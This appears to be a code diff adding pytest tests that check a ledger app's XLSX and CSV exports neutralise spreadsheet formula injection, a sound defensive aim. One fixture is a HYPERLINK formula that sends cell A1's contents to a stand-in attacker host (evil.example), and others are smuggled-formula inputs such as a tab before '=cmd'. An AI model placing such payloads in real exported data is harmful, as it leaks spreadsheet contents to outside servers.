@@ -8,6 +8,7 @@ import pytest
 from openpyxl import load_workbook
 from sqlmodel import select
 
+from app.dashboard.exports import csv_bytes, xlsx_bytes
 from app.ledger import entries as ledger
 from app.models import LedgerEntry, LedgerStatus, LedgerUpdate
 from intake.models import Event
@@ -132,3 +133,41 @@ def test_create_from_a_confirmed_reply_in_one_step(client, login, make_user, db,
         "/ledger/export?format=csv").data
     for secret in REPORTER_NAMES + REPORTER_PHONES:
         assert secret.encode() not in body
+
+
+def test_exports_keep_text_as_written_and_never_as_a_formula(client, login, make_user, db,
+                                                              campaign_id):
+    """The official template shows progress and 问责情况 exactly as written (no stray "'"
+    before '-已约谈…'), each stored as a string cell, so text starting with = + - @ can never
+    run as a formula. CSV, which spreadsheet programs interpret, keeps the "'" defence."""
+    tf = make_user("taskforce")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    entry = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
+                          symptom="+乱罚款", measures="@废止文件", unit_id=unit_id(db, "hzq"),
+                          accountability=formula)
+    ledger.add_progress(db, tf, entry.id, progress="-已约谈2名执法人员", status="整改中")
+    db.commit()
+    login(tf)
+    book = load_workbook(io.BytesIO(client.get("/ledger/export?format=xlsx").data))
+    sheet = book.worksheets[0]
+    assert sheet["G5"].value == "-已约谈2名执法人员"
+    assert sheet["H5"].value == formula
+    assert (sheet["C5"].value, sheet["D5"].value) == ("+乱罚款", "@废止文件")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert {sheet[k].data_type for k in ("B5", "C5", "D5", "E5", "G5", "H5")} == {"s"}
+    csv_body = client.get("/ledger/export?format=csv").get_data(as_text=True)
+    assert "'-已约谈2名执法人员" in csv_body and "'=HYPERLINK" in csv_body
+    assert "'+乱罚款" in csv_body and "'@废止文件" in csv_body
+
+
+def test_list_exports_store_text_as_strings():
+    """The shared list export (search results, dashboard tables): XLSX text as written in
+    string cells, numbers as numbers; CSV text that a spreadsheet would run gets a "'"."""
+    rows = [("=1+1", "#N/A", "-5天", 3), ("\t=cmd", "正常", None, 2.5)]
+    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c", "d"], rows))).active
+    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
+        ["=1+1", "#N/A", "-5天", 3], ["\t=cmd", "正常", None, 2.5]]
+    assert [c.data_type for c in sheet[2]] == ["s", "s", "s", "n"]
+    body = csv_bytes(["a", "b", "c", "d"], rows).decode("utf-8-sig").splitlines()
+    assert body[1:] == ["'=1+1,#N/A,'-5天,3", "'\t=cmd,正常,,2.5"]
